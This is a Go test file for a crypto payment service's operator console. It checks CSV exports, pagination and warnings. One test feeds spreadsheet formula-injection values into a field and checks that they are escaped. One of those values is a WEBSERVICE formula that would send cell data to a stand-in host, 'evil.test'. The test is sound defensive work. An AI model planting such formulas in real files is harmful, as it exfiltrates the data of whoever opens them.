package console_test

import (
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/sirupsen/logrus"

	"causeway/internal/ops/admin"
)

// bulk is many payins of the merchant, of one moment.
func (d *desk) bulk(n int) {
	d.t.Helper()
	d.exec(`insert into payins (id, merchant_id, reference_id, token, network, status, wallet, asset, process_by, amount, fiat_currency,
			webhook_url, percent_rate, pays_network_fee, network_fee, minimum_payment, expires_at)
		select gen_random_uuid(), ?0, 'bulk-' || n, 'USDT', 'Ethereum', 'completed', 'w', 'USDT', 'crypto_amount', 1, 'USD', '', 0, false, 0, 100, now()
		from generate_series(1, ?1) n`, d.merchant, n)
}

// file returns a list as CSV: its columns, and the rows by column.
func (p *person) file(path string) (columns []string, rows []map[string]string) {
	p.d.t.Helper()
	status, body := p.get("/console/" + path)
	lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || status != http.StatusOK || len(lines) == 0 {
		p.d.t.Fatalf("%s: %d, %v", path, status, err)
	}
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, name := range lines[0] {
			row[name] = line[i]
		}
		rows = append(rows, row)
	}
	return lines[0], rows
}

// A file has every row once, however many there are, whichever index its pieces are read by.
//
// Covers operator §Console: A CSV has every row
func TestAFileHasEveryRow(t *testing.T) {
	t.Parallel()
	d := open(t)
	d.operator("ann", admin.RoleViewer)
	const payins, others = 10_050, 1_001
	d.bulk(payins)
	d.exec(`insert into deliveries (id, merchant_id, subject, event, url, body, status)
		select gen_random_uuid(), ?0, gen_random_uuid(), 'payment_confirmed', 'https://shop.example/' || n, '{}', 'delivered' from generate_series(1, ?1) n`,
		d.merchant, others)
	d.exec(`insert into wallets (id, merchant_id, family, customer_info, wallet, status)
		select gen_random_uuid(), ?0, 'ethereum', 'c' || n, 'w' || n, 'STATUS_ASSIGNED' from generate_series(1, ?1) n`, d.merchant, others)
	d.exec(`insert into audit (actor, action, subject) select 'bob', 'counted', 'row:' || n from generate_series(1, ?0) n`, others)
	d.exec(`insert into merchants (id, name, webhook_secret) select gen_random_uuid(), 'Stall', '\x' from generate_series(1, ?0)`, others-1)
	d.exec(`insert into transfers (id, network, txid, token, position, address, amount, status, reason, seen_at)
		select gen_random_uuid(), 'Ethereum', 't' || n, 'USDT', 0, 'a', 1, 'unclaimed', 'late', '2026-01-01'::timestamptz + n / 3 * interval '1 second'
		from generate_series(1, ?0) n`, others)
	d.waitsMany(others)
	p := d.person()
	p.login("ann", password)
	of := "&merchant=" + d.merchant.String()
	for _, c := range []struct {
		path, column string
		want         int
	}{
		{"payins?format=csv", "reference_id", payins}, {"payins?format=csv" + of, "reference_id", payins},
		{"webhooks?format=csv", "url", others}, {"webhooks?format=csv" + of, "url", others},
		{"wallets?format=csv", "wallet", others}, {"merchants?format=csv", "id", others}, {"rates?format=csv", "merchant_id", others},
		{"audit?format=csv", "id", d.count("audit")},
		{"unclaimed?format=csv", "id", others}, {"approvals?format=csv", "internal_reference", others},
	} {
		_, rows := p.file(c.path)
		seen := map[string]bool{}
		for _, row := range rows {
			seen[row[c.column]] = true
		}
		if len(rows) != c.want || len(seen) != c.want {
			t.Errorf("%s has %d rows, %d of them different, and not %d", c.path, len(rows), len(seen), c.want)
		}
	}
}

// waitsMany makes payouts of the merchant waiting for approval, three at a time.
func (d *desk) waitsMany(n int) {
	d.t.Helper()
	d.exec(`with made as (insert into payouts (id, merchant_id, key_id, reference_id, wallet, token, asset, network, process_by, amount, debit,
			rate_fee, network_fee, pays_network_fee, fee_from_amount, percent_rate, fiat_currency, webhook_url, status)
		select gen_random_uuid(), ?0, 'k', 'waits-' || n, 'w', 'USDT', 'USDT', 'Ethereum', 'crypto_amount', 1, 1, 0, 0, false, false, 0, 'USD', '', 'queued'
		from generate_series(1, ?1) n returning id, substr(reference_id, 7)::int as n)
		insert into payout_approvals (payout_id, why, asked_at) select id, 'above 0 USDT', now() - n / 3 * interval '1 second' from made`, d.merchant, n)
}

// A list of waiting rows goes on where its page ends: the longest waiting are on the first page, and nothing is left out.
//
// Covers operator §Console: It shows what is held
func TestWhatWaitsIsOnPages(t *testing.T) {
	t.Parallel()
	d := open(t)
	d.operator("ann", admin.RoleViewer)
	d.waitsMany(120)
	d.exec(`insert into transfers (id, network, txid, token, position, address, amount, status, reason, seen_at)
		select gen_random_uuid(), 'Ethereum', 'waits-' || n, 'USDT', 0, 'a', 1, 'unclaimed', 'late', now() - n / 3 * interval '1 second' from generate_series(1, 120) n`)
	p := d.person()
	p.login("ann", password)
	row, next := regexp.MustCompile(`\bwaits-[0-9]+\b`), regexp.MustCompile(`href="([^"]+\?below=[^"]+)"`)
	for _, path := range []string{"/console/approvals", "/console/unclaimed"} {
		seen, sizes := map[string]bool{}, []int(nil)
		for at := path; at != ""; {
			_, body := p.get(at)
			on := map[string]bool{}
			for _, name := range row.FindAllString(body, -1) {
				on[name], seen[name] = true, true
			}
			sizes, at = append(sizes, len(on)), ""
			if link := next.FindStringSubmatch(body); link != nil {
				at = link[1]
			}
		}
		if !slices.Equal(sizes, []int{50, 50, 20}) || len(seen) != 120 {
			t.Errorf("%s: pages of %v, %d different", path, sizes, len(seen))
		}
	}
	_, body := p.get("/console/payouts")
	if n := strings.Count(body, "waits for approval"); n != 50 {
		t.Errorf("%d of the page's 50 payouts are said to wait", n)
	}
}

// Payouts of a suspended merchant are on the pages before any worker has seen them, each once, as are those noted by a worker.
//
// Covers operator §Console: So waits, with the reason
func TestPayoutsOfASuspendedMerchantAreOnPages(t *testing.T) {
	t.Parallel()
	d := open(t)
	d.operator("ann", admin.RoleOperator)
	d.waitsMany(120)
	d.exec("delete from payout_approvals where right(payout_id::text, 1) < '8'")
	d.exec("update merchants set suspended = true")
	p := d.person()
	p.login("ann", password)
	_, rows := p.file("approvals?format=csv")
	seen := map[string]bool{}
	for _, row := range rows {
		seen[row["internal_reference"]] = true
		if row["why"] != "its merchant is suspended" || row["waits_since_utc"] == "" {
			t.Fatalf("%v", row)
		}
	}
	if len(rows) != 120 || len(seen) != 120 {
		t.Errorf("%d rows, %d different", len(rows), len(seen))
	}
	_, first := p.get("/console/approvals")
	next := regexp.MustCompile(`href="(/console/approvals\?below=[^"]+)"`).FindStringSubmatch(first)
	if next == nil || strings.Count(first, "waits-") == 0 {
		t.Fatal("the approvals have no second page")
	}
	if _, second := p.get(next[1]); strings.Count(second, "its merchant is suspended") != 50 {
		t.Errorf("the second page has %d", strings.Count(second, "its merchant is suspended"))
	}
	for _, row := range rows[:10] {
		id := row["internal_reference"]
		if _, page := p.get("/console/payouts/" + id); !strings.Contains(page, "Waiting for approval since") || !strings.Contains(page, ">Approve<") {
			t.Fatalf("the page of payout %s has no decision", id)
		}
	}
}

func (d *desk) count(table string) (n int) {
	d.t.Helper()
	must(d.t, d.db.NewRaw("select count(*) from "+table).Scan(d.t.Context(), &n))
	return n
}

// A file never lacks rows in silence: the transfer breaks off, and there is no file.
//
// Covers operator §Console: A CSV has every row
func TestAFileThatCannotBeReadToItsEndIsBrokenOff(t *testing.T) {
	t.Parallel()
	d := open(t)
	d.operator("ann", admin.RoleViewer)
	d.bulk(600)
	d.exec("update payins set amount = 'NaN' where id = (select min(id::text)::uuid from payins)") // unreadable
	p := d.person()
	p.login("ann", password)
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, d.url+"/console/payins?format=csv", nil)
	must(t, err)
	request.Close = true
	response, err := p.http.Do(request)
	must(t, err)
	defer func() { _ = response.Body.Close() }()
	body, err := io.ReadAll(response.Body)
	if response.StatusCode != http.StatusOK || err == nil {
		t.Errorf("%d with %d bytes, %v", response.StatusCode, len(body), err)
	}
	if status, page := p.get("/console/payins"); status != http.StatusOK || !strings.Contains(page, "bulk-") {
		t.Errorf("and the page: %d", status)
	}
	if n := d.warned("a file was broken off"); n != 1 {
		t.Errorf("%d warnings", n)
	}
}

// warned counts the warnings with a message.
func (d *desk) warned(message string) (n int) {
	for _, line := range d.logged.AllEntries() {
		if line.Level <= logrus.WarnLevel && line.Message == message {
			n++
		}
	}
	return n
}

// hangingUp is a client gone once it has the first part of a file.
type hangingUp struct {
	*httptest.ResponseRecorder
	hangUp context.CancelFunc
}

func (h hangingUp) Write(piece []byte) (int, error) {
	h.hangUp()
	return h.ResponseRecorder.Write(piece)
}

// A client hanging up is nothing to mend for a reader of the log.
func TestAClientThatHangsUpOnAFileIsNoWarning(t *testing.T) {
	t.Parallel()
	d := open(t)
	d.operator("ann", admin.RoleViewer)
	d.bulk(600)
	p := d.person()
	p.login("ann", password)
	ctx, hangUp := context.WithCancel(t.Context())
	request := httptest.NewRequestWithContext(ctx, http.MethodGet, d.url+"/console/payins?format=csv", nil)
	for _, cookie := range p.http.Jar.Cookies(request.URL) {
		request.AddCookie(cookie)
	}
	client := hangingUp{httptest.NewRecorder(), hangUp}
	func() {
		defer func() {
			if broken := recover(); broken != http.ErrAbortHandler { //nolint:errorlint // what net/http compares
				t.Errorf("the file ends with %v", broken)
			}
		}()
		d.console.ServeHTTP(client, request)
	}()
	if client.Code != http.StatusOK || client.Body.Len() == 0 {
		t.Errorf("%d with %d bytes", client.Code, client.Body.Len())
	}
	for _, line := range d.logged.AllEntries() {
		if line.Level <= logrus.WarnLevel {
			t.Errorf("logged: %s", line.Message)
		}
	}
}

// figures are the columns of numbers of each CSV.
var figures = map[string]string{
	"payins":    "amount received rate_fee network_fee fiat_amount",
	"payouts":   "amount debit rate_fee network_fee fiat_amount",
	"approvals": "amount debit", "unclaimed": "amount", "merchants": "keys limits", "webhooks": "attempts last_status",
	"rates":    "payment_rate receipt_rate deposit_rate withdrawal_rate",
	"tokens":   "min_receipt max_receipt min_withdrawal max_withdrawal network_fee decimals",
	"networks": "head behind open_payouts", "treasury": "amount unclaimed worth_usd", "prices": "price", "audit": "id",
	"wallets": "", "operators": "", "reconcile": "want got",
}

// grouping is a value people read as a number.
var grouping = regexp.MustCompile(`^[-+\x{2212}$]?[0-9][0-9 ,.'\x{a0}\x{2009}\x{202f}]*$`)

// A program reads every number of a CSV: no groups, no unit, a plain minus.
//
// Covers operator §Console: In a CSV each value
func TestNumbersOfAFileAreDecimals(t *testing.T) {
	t.Parallel()
	d := open(t)
	d.operator("ann", admin.RoleViewer)
	d.payin()
	d.payout("salary-7", "250")
	d.exec("update tokens set min_receipt = 12345.5, max_withdrawal = 9876543, network_fee = 1234.5 where symbol = 'USDT'")
	d.exec("update prices set price = 63250.109 where base = 'BTC'")
	d.exec("update followers set head = head + 1234567")
	d.exec("update payins set amount = 1234567.5, received = 1234567.25")
	d.exec("update payouts set amount = 1234567, debit = 1234568.5, rate_fee = 0.5, network_fee = 1, pays_network_fee = true")
	d.exec(`insert into transfers (id, network, txid, token, position, address, amount, status, reason)
		values (gen_random_uuid(), 'Ethereum', 'stray', 'USDT', 0, 'a', 54321.5, 'unclaimed', 'of nobody')`)
	d.exec("insert into payout_approvals (payout_id, why) select id, 'above 100 USD' from payouts")
	d.exec(`insert into reconcile_reports (differences) values ('[{"check": "c", "where": "w", "asset": "USDT", "want": "-12345.5", "got": "54321"}]')`)
	d.exec(`insert into wallets (id, merchant_id, family, customer_info, wallet, status)
		values (gen_random_uuid(), ?, 'ethereum', 'c', 'w', 'STATUS_ASSIGNED')`, d.merchant)
	p := d.person()
	p.login("ann", password)
	for list, numeric := range figures {
		columns, rows := p.file(list + "?format=csv")
		if len(rows) == 0 {
			t.Errorf("%s has no row", list)
		}
		for _, name := range strings.Fields(numeric) {
			if !slices.Contains(columns, name) {
				t.Errorf("%s has no column %s", list, name)
			}
		}
		for _, row := range rows {
			for name, value := range row {
				_, err := decimal.NewFromString(value)
				if number := slices.Contains(strings.Fields(numeric), name) || grouping.MatchString(value) && !strings.HasSuffix(name, "_utc"); err != nil && number && value != "" {
					t.Errorf("%s of %s is %q, which is no decimal", name, list, value)
				}
			}
		}
	}
}

// The CSVs of payins and payouts have the received, debited and charged amounts, and name rows as the API does.
//
// Covers operator §Console: In a CSV each value
func TestFilesOfMoneySayWhatMoved(t *testing.T) {
	t.Parallel()
	d := open(t)
	d.operator("ann", admin.RoleViewer)
	in, txid := d.payin()
	out := d.payout("salary-7", "250")
	d.exec("update payins set received = 400, customer_info = '-2+3|cmd'")
	d.exec("update transfers set rate_fee = 1.5, network_fee = 0.25")
	d.exec("update payouts set amount = 247, debit = 250, rate_fee = 2, network_fee = 1, pays_network_fee = true, txid = 'sent'")
	p := d.person()
	p.login("ann", password)
	for list, want := range map[string]map[string]string{
		"payins": {"internal_reference": in.ID.String(), "merchant_id": d.merchant.String(), "merchant": "Shop & Sons", "reference_id": "order-1",
			"status": "completed", "payment_status": "partial", "token": "USDT", "amount": "1000", "received": "400", "rate_fee": "1.5",
			"network_fee": "0.25", "txid": txid, "fiat_amount": "", "memo": "", "customer_info": "'-2+3|cmd"},
		"payouts": {"internal_reference": out.ID.String(), "merchant_id": d.merchant.String(), "merchant": "Shop & Sons", "reference_id": "salary-7",
			"amount": "247", "debit": "250", "rate_fee": "2", "network_fee": "1", "txid": "sent"},
	} {
		_, rows := p.file(list + "?format=csv")
		if len(rows) != 1 {
			t.Fatalf("%s has %d rows", list, len(rows))
		}
		for name, value := range want {
			if rows[0][name] != value {
				t.Errorf("%s of %s is %q and not %q", name, list, rows[0][name], value)
			}
		}
	}
}

// computed is a cell a spreadsheet may take for a formula.
var computed = regexp.MustCompile(`^[ \x{a0}"]*[=+@-]`)

// No cell of a file is computed, whether a spreadsheet separates by commas, semicolons or tabs; numbers are as they were.
//
// Covers operator §Console: In a CSV each value
func TestNoTextOfAFileIsComputed(t *testing.T) {
	t.Parallel()
	d := open(t)
	d.operator("ann", admin.RoleViewer)
	d.bulk(1)
	p := d.person()
	p.login("ann", password)
	for value, want := range map[string]string{
		`x;=WEBSERVICE("http://evil.test/"&A1);y`: `x;'=WEBSERVICE("http://evil.test/"&A1);y`,
		"x; \u00a0+1;@a;-1+1":                     "x;' \u00a0+1;'@a;'-1+1",
		"x\t=1\r=2\n-3+4":                         "x\t'=1\r'=2\n'-3+4",
		"x;\t=1":                                  "x;\t'=1",
		`x;"=1+1"`:                                `x;'"=1+1"`,
		"=1;=2":                                   "'=1;'=2",
		"-12.5":                                   "-12.5",
		"＝1+1":                                    "'＝1+1",
		"a=b; c-d;e+f@g":                          "a=b; c-d;e+f@g",
	} {
		d.exec("update payins set customer_info = ?", value)
		_, body := p.get("/console/payins?format=csv")
		lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		must(t, err)
		if got := lines[1][slices.Index(lines[0], "customer_info")]; got != want {
			t.Errorf("%q is written as %q", value, got)
		}
		if _, marked := p.get("/console/payins?format=csv&bom=1"); marked != "\ufeff"+body {
			t.Errorf("with a byte order mark: %q", marked)
		}
		for cell := range strings.FieldsFuncSeq(body, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			if computed.MatchString(cell) {
				t.Errorf("%q has the cell %q", value, cell)
			}
		}
	}
}
